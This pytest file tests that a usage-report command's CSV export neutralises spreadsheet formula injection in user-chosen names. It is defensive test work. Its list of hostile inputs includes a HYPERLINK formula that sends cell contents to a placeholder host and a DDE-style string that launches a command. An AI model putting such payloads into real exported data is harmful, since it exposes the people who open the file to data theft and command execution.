"""`corral report usage --csv` opened in a spreadsheet: a name a user chose (an account, a partition,
a user name from a directory) that starts like a formula must stay text (OWASP "CSV Injection": a
leading apostrophe for = + - @ tab CR). The whole command, on captured sacct lines with hostile names."""

from __future__ import annotations

import csv
import io

import pytest

from corral.cli.report_cmd import FORMULA_START, cell
from test_report_cli import SACCT, WEEK, report, runner, spec  # noqa: F401 - fixtures

HOSTILE = ["=HYPERLINK(\"http://x/?\"&A1)", "+1+cmd' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx"]


def _sacct(name: str) -> str:
    """week.txt with alice's account renamed `name` (the field sacct prints; '|' cannot be in it)."""
    return (SACCT / "week.txt").read_text().replace("|alice|vision|", f"|alice|{name}|")


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_starts_like_a_formula_stays_text(spec, capsys, runner, name):  # noqa: F811
    runner(out=_sacct(name))
    rc, out, _ = report(spec, capsys, *WEEK, "--by", "account", "--csv")
    rows = list(csv.reader(io.StringIO(out)))
    assert rc == 0
    cells = [c for row in rows for c in row]
    assert "'" + name in cells, cells
    assert not [c for c in cells if c.startswith(FORMULA_START) and not _number(c)], cells


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("value", ["", "a=b", "'x", "plain", 0, -1.5, None, 3])
def test_other_cells_are_unchanged_numbers_stay_numbers(value):
    assert cell(value) == ("" if value is None else value)


@pytest.mark.parametrize("first", [chr(c) for c in range(0, 128)])
def test_every_first_character(first):
    got = cell(first + "x")
    assert got == ("'" + first + "x" if first in FORMULA_START else first + "x")
